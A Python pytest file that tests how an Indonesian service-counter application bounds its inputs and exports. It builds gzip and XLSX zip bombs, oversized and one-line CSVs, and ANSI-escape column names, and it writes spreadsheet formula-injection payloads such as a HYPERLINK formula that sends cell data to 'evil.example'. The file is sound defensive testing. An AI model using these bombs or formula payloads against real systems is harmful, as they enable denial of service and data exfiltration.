"""Every input is streamed and bounded: refused early, with a clear message and flat memory
(gzip bombs, huge or one-line registry files, UTF-16 and binary CSVs, XLSX zip bombs); one long
cell in an ignored column is no reason to refuse a file; rejects files do not collide; exports
never write a formula."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import os
import random
import stat
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from counter.domain import limits as lim
from counter.domain import nik as nikmod
from counter.services import bundle_file, bundle_key, bundles, registry
from counter.services.input_bounds import InputRefused

from ._bundle_fixtures import make, snapshot

MB = 1 << 20


def _peak(fn: Callable[[], Any]) -> tuple[BaseException | None, int]:
    """Run ``fn``; the exception it raised and the peak of Python allocations meanwhile."""
    tracemalloc.start()
    try:
        fn()
        err = None
    except BaseException as e:  # noqa: BLE001 - returned to the test
        err = e
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return err, peak


def _signed_bomb(path: Path, key: bytes, first: bytes, filler: bytes, total: int) -> Path:
    """A real gzip bomb, signed with ``key``: ``first`` then ``total`` bytes of ``filler``,
    compressed as a stream (the test never holds the big content)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(first)
    parts = [co.compress(first)]
    block = filler * (MB // len(filler))
    for _ in range(total // len(block)):
        parts.append(co.compress(block))
        crc = zlib.crc32(block, crc)
    parts.append(co.flush())
    size_raw = len(first) + (total // len(block)) * len(block)
    tail = b"".join(parts) + struct.pack("<II", crc & 0xFFFFFFFF, size_raw & 0xFFFFFFFF)
    size = bundle_file.HEADER_LEN + len(tail)
    sizes = struct.pack("<QQ", size, size ^ bundle_file.SIZE_MASK)
    mac = hmac.new(key, bundle_file.MAC_DOMAIN + sizes + tail, hashlib.sha256).digest()
    signed = bundle_key.key_id(key) + mac + tail
    path.write_bytes(bundle_file.GZ_PREFIX + sizes + hashlib.sha256(signed).digest() + signed)
    return path


@pytest.fixture(scope="module")
def bombs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("bombs")
    key = b"K" * 32
    manifest = json.dumps({"format": bundles.FORMAT, "version": 1}).encode() + b"\n"
    return {
        "zeros": _signed_bomb(d / "zeros.ikdb", key, manifest, b"\0", 1024 * MB),
        "lines": _signed_bomb(d / "lines.ikdb", key, manifest, b"{}\n", 300 * MB),
    }


@pytest.fixture
def office(tmp_path: Path, clock: Any):
    c = make(tmp_path, "office", clock)
    bundle_key.install(c, b"K" * 32)
    yield c
    c.db.dispose()


def test_a_1gb_gzip_bomb_is_refused_early_with_flat_memory(bombs, office) -> None:
    assert bombs["zeros"].stat().st_size < 2 * MB  # 1 GB of zeros inside
    before = snapshot(office)
    err, peak = _peak(lambda: bundles.import_bundle(office, bombs["zeros"]))
    assert isinstance(err, bundles.BundleError), err
    assert err.code == "line_too_long" and "longer than 128 KB" in err.message("en")
    assert peak < 8 * MB, peak
    assert snapshot(office) == before


def test_a_bomb_of_short_lines_is_refused_at_the_content_bound(bombs, office) -> None:
    err, peak = _peak(lambda: bundles.import_bundle(office, bombs["lines"]))
    assert isinstance(err, bundles.BundleError), err
    assert err.code == "content_too_big" and "256 MB" in err.message("en")
    assert peak < lim.BUNDLE_CONTENT_BYTES + 16 * MB  # never more than the bound itself


def test_an_unsigned_bomb_is_never_decompressed(bombs, tmp_path, clock) -> None:
    """Someone without the key: refused on the signature, before any decompression."""
    c = make(tmp_path, "other", clock)
    bundle_key.install(c, b"Z" * 32)
    err, peak = _peak(lambda: bundles.import_bundle(c, bombs["zeros"]))
    assert isinstance(err, bundles.BundleError) and err.code == "wrong_key"
    assert peak < 4 * MB, peak
    c.db.dispose()


def test_an_oversized_bundle_file_is_refused_before_reading(tmp_path, office) -> None:
    big = tmp_path / "big.ikdb"
    with big.open("wb") as f:
        f.truncate(lim.BUNDLE_FILE_BYTES + 1)  # sparse: nothing written
    err, peak = _peak(lambda: bundles.import_bundle(office, big))
    assert isinstance(err, bundles.BundleError) and err.code == "too_big"
    assert peak < 1 * MB


# ---- registry ------------------------------------------------------------------------------


def N(i: int) -> str:
    return nikmod.compose("332501", date(1990, 1, 1 + i % 28), "M", 1 + i)


@pytest.fixture
def rctx(tmp_path: Path, clock: Any):
    c = make(tmp_path, "reg", clock)
    yield c
    c.db.dispose()


def _count(c: Any) -> int:
    from sqlmodel import func, select

    from counter.store.models import RegistryEntry

    with c.db.read() as s:
        return int(s.exec(select(func.count()).select_from(RegistryEntry)).one())


def test_a_50mb_single_line_is_refused_quickly_with_flat_memory(tmp_path, rctx) -> None:
    f = tmp_path / "one-line.csv"
    with f.open("wb") as fh:
        fh.write(b"NIK;STATUS IKD;ALAMAT\n" + N(1).encode() + b";SUDAH;")
        chunk = b"x" * MB
        for _ in range(50):
            fh.write(chunk)
        fh.write(b"\n")
    err, peak = _peak(lambda: registry.import_registry(rctx, f))
    assert isinstance(err, InputRefused) and err.code == "line_too_long", err
    msg = err.message("en")
    assert "line 2" in msg and "one-line.csv" in msg
    assert peak < 6 * MB, peak
    assert _count(rctx) == 0


def test_a_registry_file_beyond_the_size_bound_is_refused_unread(tmp_path, rctx) -> None:
    f = tmp_path / "huge.csv"
    with f.open("wb") as fh:
        fh.write(b"NIK;STATUS\n")
        fh.truncate(lim.REGISTRY_FILE_BYTES + 1)  # sparse
    err, peak = _peak(lambda: registry.import_registry(rctx, f))
    assert isinstance(err, InputRefused) and err.code == "too_big"
    assert "512 MB" in err.message("en") and peak < 1 * MB


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_csv_gets_save_as_csv_utf8_advice(tmp_path, rctx, encoding) -> None:
    f = tmp_path / "unicode.txt"
    f.write_bytes(f"NIK\tSTATUS IKD\n{N(1)}\tSUDAH\n".encode(encoding))
    with pytest.raises(InputRefused) as e:
        registry.import_registry(rctx, f)
    assert e.value.code == "utf16"
    assert "CSV UTF-8" in e.value.message("en") and "CSV UTF-8" in e.value.message("id")


def test_binary_garbage_is_not_echoed_as_columns(tmp_path, rctx) -> None:
    f = tmp_path / "garbage.csv"
    f.write_bytes(random.Random(7).randbytes(20000))
    with pytest.raises(InputRefused) as e:
        registry.import_registry(rctx, f)
    assert e.value.code == "not_text"
    assert "Columns found" not in e.value.message("en")
    # text that passes as text: its column names are shown printable and short
    g = tmp_path / "weird.csv"
    g.write_text("\x1b[31mEVIL\x1b[0m;" + "A" * 300 + ";B\n1;2;3\n", encoding="utf-8")
    with pytest.raises(registry.RegistryError) as e2:
        registry.import_registry(rctx, g)
    msg = e2.value.message("en")
    assert e2.value.code == "no_nik_column" and "\x1b" not in msg and "A" * 41 not in msg


def test_one_long_cell_in_an_ignored_column_does_not_refuse_the_file(tmp_path, rctx) -> None:
    f = tmp_path / "alamat.csv"
    long_cell = '"' + "Jl. Panjang " * 25_000 + '"'  # 300 kB, quoted: the csv reader's path
    f.write_text(
        f"NIK;STATUS IKD;ALAMAT\n{N(1)};SUDAH;{long_cell}\n{N(2)};BELUM;Batang\n", encoding="utf-8"
    )
    r = registry.import_registry(rctx, f)
    assert (r.read, r.inserted, r.rejected) == (2, 2, 0)


def test_rejects_files_of_csv_and_xlsx_do_not_collide(tmp_path, rctx) -> None:
    import openpyxl

    bad = '=HYPERLINK("http://evil.example","x")'
    c = tmp_path / "foo.csv"
    c.write_text(f"NIK;STATUS IKD\n{N(1)};SUDAH\n{bad};SUDAH\n", encoding="utf-8")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["NIK", "STATUS IKD"])
    ws.append([N(2), "SUDAH"])
    ws.append(["123", "SUDAH"])
    wb.save(tmp_path / "foo.xlsx")
    r1 = registry.import_registry(rctx, c)
    r2 = registry.import_registry(rctx, tmp_path / "foo.xlsx")
    assert r1.rejects_file and r2.rejects_file and r1.rejects_file != r2.rejects_file
    for p in (r1.rejects_file, r2.rejects_file):
        assert stat.S_IMODE(os.stat(p).st_mode) == 0o600
    rows = list(
        csv.reader(
            io.StringIO(Path(r1.rejects_file).read_text(encoding="utf-8-sig")), delimiter=";"
        )
    )
    assert rows[1][1] == "'" + bad  # never a formula when opened in Excel
    assert "123" in Path(r2.rejects_file).read_text(encoding="utf-8-sig")


def test_an_xlsx_zip_bomb_is_refused_before_openpyxl(tmp_path, rctx) -> None:
    f = tmp_path / "bomb.xlsx"
    with (
        zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z,
        z.open("xl/worksheets/sheet1.xml", "w") as part,
    ):
        block = b"\0" * MB
        for _ in range(64):
            part.write(block)
    assert f.stat().st_size < MB
    err, peak = _peak(lambda: registry.import_registry(rctx, f))
    assert isinstance(err, InputRefused) and err.code == "xlsx_too_big", err
    assert peak < 4 * MB


def test_the_line_bound_follows_lines_across_chunks() -> None:
    """limits.line_run: exact on both sides of the limit, across piece boundaries."""
    limit = 10
    assert lim.line_run(b"a" * 10, 0, limit) == 10
    assert lim.line_run(b"a" * 11, 0, limit) == -1
    assert lim.line_run(b"aaaa", 7, limit) == -1
    assert lim.line_run(b"aaa\nbb", 7, limit) == 2
    assert lim.line_run(b"aaaa\nbb", 7, limit) == -1
    assert lim.line_run(b"a\n" + b"b" * 10 + b"\n" + b"c" * 10 + b"\nd", 0, limit) == 1
    assert lim.line_run(b"a\n" + b"b" * 11 + b"\nd", 0, limit) == -1
    rng = random.Random(3)
    for _ in range(300):
        text = bytes(rng.choice(b"ab\n") if rng.random() < 0.9 else 10 for _ in range(200))
        cuts = sorted(rng.sample(range(1, 200), 3))
        run = 0
        for a, b in zip([0, *cuts], [*cuts, 200], strict=True):
            run = lim.line_run(text[a:b], run, limit) if run >= 0 else -1
        longest = max(map(len, text.split(b"\n")))
        assert (run >= 0) == (longest <= limit)


# ---- export ---------------------------------------------------------------------------------


def test_no_export_cell_is_ever_a_formula(tmp_path, clock) -> None:
    """Every text field in the database holds a formula, the NIK included: the XLSX read back
    has no formula cell, and no CSV cell starts with = + - @ (a phone's + excepted)."""
    import openpyxl
    from sqlalchemy import text

    from counter.services import accounts, export, visits

    c = make(tmp_path, "exp", clock)
    sup = accounts.create_officer(c, "kasi", "246802", role="supervisor")
    v = visits.start_visit(c, sup, N(1), phone="081234567890", consent=True)
    visits.finish_visit(c, v.id, "PENDING", "server_down", officer_id=sup.id)
    f = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    with c.db.write() as s:
        s.execute(
            text(
                "UPDATE visit SET nik=:f, office_code=:f, counter_id=:f, name=:f, "
                "phone='+6281234', ikd_status_found=:f, outcome=:f, reason=:f, note=:f, "
                "purpose=:f, district_code=:f"
            ),
            {"f": f},
        )
        s.execute(text("UPDATE officer SET username=:f"), {"f": "-2+3"})
    day = clock.now.date()
    x = export.export_visits(
        c, sup, "date", date_from=day, date_to=day, fmt="xlsx", out=tmp_path / "v.xlsx"
    )
    wb = openpyxl.load_workbook(x.path)
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert [cl.coordinate for cl in cells if cl.data_type == "f"] == []
    texts = [cl.value for cl in cells if isinstance(cl.value, str)]
    assert "'" + f in texts and "'-2+3" in texts and "+6281234" in texts
    for fmt_path in ("v.csv", "v2.csv"):
        y = export.export_visits(
            c, sup, "date", date_from=day, date_to=day, fmt="csv", out=tmp_path / fmt_path
        )
        rows = list(csv.reader(io.StringIO(y.path.read_text(encoding="utf-8-sig")), delimiter=";"))
        bad = [
            cell
            for row in rows[1:]
            for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "+6281234"
        ]
        assert bad == [] and "'" + f in rows[1]
    c.db.dispose()
